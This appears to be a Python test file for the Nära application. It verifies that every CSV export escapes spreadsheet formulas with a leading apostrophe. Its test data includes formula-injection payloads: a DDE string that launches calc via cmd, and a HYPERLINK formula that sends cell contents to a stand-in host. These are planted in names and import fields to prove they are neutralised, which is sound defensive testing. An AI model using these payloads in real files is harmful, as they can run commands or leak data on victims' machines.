"""No CSV that Nära writes can run a formula in a spreadsheet (issue 11 item 13): text cells starting with
= + - @ (or a tab / carriage return) get a leading apostrophe, numbers stay numbers, and every module that writes
CSV does so through nara.core.csv_safe."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
from pathlib import Path

import duckdb
import pytest
from django.urls import reverse

from nara.core import csv_safe
from nara.identify.models import ImportBatch
from nara.identify.services import import_extract
from tests.identify.test_risklist import key, make_run
from tests.transitions import builders as b
from tests.transitions.test_statement_month import setup_cases
from tests.world import build

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "-1+1", "=", "-"]
PLAIN = ["Astrid", "1463", "2025-10-02", " =1", "a=b", "'=1", "", "10 besök", "–5"]  # en dash: no formula
NUMBERS = ["-4", "-36000,00", "+1.5", "0", "-0,5", "12"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe(text):
    assert csv_safe.cell(text) == "'" + text


@pytest.mark.parametrize("value", [*PLAIN, *NUMBERS, -4, -1.5, 0])
def test_text_without_a_formula_and_numbers_are_unchanged(value):
    assert csv_safe.cell(value) == value


def test_none_is_an_empty_cell_and_dict_writer_neutralises_too():
    out = io.StringIO()
    w = csv_safe.dict_writer(out, ["a", "b"], delimiter=";", lineterminator="\n")
    w.writeheader()
    w.writerow({"a": "=1+1", "b": None})
    assert out.getvalue() == "a;b\n'=1+1;\n"


def test_the_sql_twin_agrees_with_the_python_helper():
    samples = [*FORMULAS, *PLAIN, *NUMBERS, "Åsa-Britt"]
    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, v VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(samples)))
    got = [v for (v,) in con.execute(f"SELECT {csv_safe.sql('v')} FROM t ORDER BY i").fetchall()]
    assert got == [csv_safe.cell(s) for s in samples]
    assert con.execute(f"SELECT {csv_safe.sql('NULL')}").fetchone() == (None,)


# --- every CSV export, end to end --------------------------------------------------------------------------


def read(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.django_db
def test_risk_list_export(client, tmp_path):
    w = build()
    w.person.given_name, w.person.family_name = "=HYPERLINK(\"http://x.example\")", "@Lindqvist"
    w.person.save()
    p = key(w.person)
    make_run(tmp_path / "r.parquet", [(p, "mangbesokare_vardcentral", True, 7.0, None, "-1+1 besök", w.vc.hsa_id,
                                        "1463")])
    client.force_login(w.vc_nurse)
    rows = read(client.post(reverse("identify:export")).content)
    (line,) = rows[1:]
    assert line[0] == "'=HYPERLINK(\"http://x.example\") @Lindqvist"
    assert line[2] == str(w.person.age())  # a number, unchanged
    assert line[4] == "'-1+1 besök"


@pytest.mark.django_db
def test_statement_csv_neutralises_text_and_keeps_negative_amounts(client):
    w = build()
    astrid, astrid_notice, _bertil = setup_cases(w)
    w.person.given_name, w.person.family_name = "=cmd|' /C calc'!A0", "Lindqvist"
    w.person.save()
    from nara.transitions import statement_services
    from tests import factories as f

    statement_services.close_month(f.actor(b.ag_mark_manager(w)), w.mark.pk, dt.date(2025, 10, 1), "test",
                                   today=dt.date(2025, 11, 5))
    b.ag_withdraw(astrid_notice, b.ag_local(dt.date(2025, 10, 8), 7))  # a correction line in November
    b.ag_ready(astrid, b.ag_local(dt.date(2025, 10, 9), 10))
    client.force_login(w.vc_manager)
    rows = read(client.get(reverse("transitions:statement_csv", args=[w.mark.pk, "2025-11"])).content)
    (correction,) = [r for r in rows[1:-1] if r[0] == str(astrid.pk)]
    assert correction[1] == "'=cmd|' /C calc'!A0 Lindqvist"
    # The correction's negative days and amount stay numbers (Swedish decimal comma).
    assert (correction[5], correction[6], correction[8]) == ("-1", "-4", "-36000,00")
    assert rows[-1][0] == "summa" and rows[-1][8] == "-36000,00"


@pytest.mark.django_db
def test_import_error_report(lake_dir, tmp_path):
    source = tmp_path / "befolkning.csv"
    source.write_text("personnummer;kommunkod\n19320314-2413;=HYPERLINK(\"http://x.example\")\n"
                      "19381102-3526;-5\n19290105-5737;1463\n", encoding="utf-8")
    report = tmp_path / "rapport.csv"
    batch = import_extract("population", source, report_path=report, accept_valid_rows=True)
    assert batch.status == ImportBatch.Status.SUCCEEDED, batch.message
    rows = read(report.read_text(encoding="utf-8"))
    assert rows[0] == ["rad", "falt", "orsak", "varde"]
    values = {(r[0], r[1]): r[3] for r in rows[1:]}
    assert values[("2", "kommunkod")] == "'=HYPERLINK(\"http://x.example\")"
    assert values[("3", "kommunkod")] == "-5"  # a number in the file stays a number


@pytest.fixture
def lake_dir(settings, tmp_path):
    settings.NARA_LAKE_DIR = tmp_path / "lake"
    settings.VAR_DIR = tmp_path
    return settings.NARA_LAKE_DIR


# --- no module writes CSV without the helper ---------------------------------------------------------------

# Files that write CSV nobody opens in a spreadsheet: neutralising would change the data they carry.
INTERNAL = {
    "nara/identify/importing/sources.py": "flattens FHIR NDJSON into a scratch CSV that DuckDB reads back at once",
    "nara/demo/extracts.py": "writes the synthetic demo extracts the importer reads (input, not an export)",
}
# Each module that writes CSV for people, and the test above that checks it.
EXPORTS = {
    "nara/identify/views.py": test_risk_list_export,
    "nara/transitions/statement_views.py": test_statement_csv_neutralises_text_and_keeps_negative_amounts,
    "nara/identify/importing/report.py": test_import_error_report,
}
COPY_CSV = re.compile(r"\bCOPY\b.*\bFORMAT\s*\(?\s*'?csv", re.IGNORECASE | re.DOTALL)


def _writes_csv(tree: ast.AST) -> tuple[bool, bool]:
    """(writes CSV with the standard library or a DuckDB COPY, uses nara.core.csv_safe to write it)."""
    raw = safe = False
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
                raw = True
            if node.value.id == "csv_safe" and node.attr in ("writer", "dict_writer", "sql"):
                safe = True
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            raw = raw or any(alias.name in ("writer", "DictWriter") for alias in node.names)
        if isinstance(node, ast.Constant) and isinstance(node.value, str) and COPY_CSV.search(node.value):
            raw = True
        if isinstance(node, ast.JoinedStr):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            if COPY_CSV.search(text):
                raw = True
    return raw, safe


def test_every_module_that_writes_csv_uses_the_helper():
    writers, unsafe = set(), []
    for path in sorted((ROOT / "nara").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        if name == "nara/core/csv_safe.py" or "/migrations/" in name:
            continue
        raw, safe = _writes_csv(ast.parse(path.read_text(encoding="utf-8")))
        if raw or safe:
            writers.add(name)
        if raw and name not in INTERNAL and not safe:
            unsafe.append(name)
        if raw and name not in INTERNAL and safe and "csv.writer" in path.read_text(encoding="utf-8"):
            unsafe.append(f"{name} (also calls csv.writer directly)")
    assert not unsafe, f"CSV written without nara.core.csv_safe: {unsafe}"
    # The lists stay true: each internal file still writes CSV, and each export is checked end to end above.
    assert set(INTERNAL) <= writers
    assert writers - set(INTERNAL) == set(EXPORTS), "a new CSV export: add it to EXPORTS with an end-to-end test"
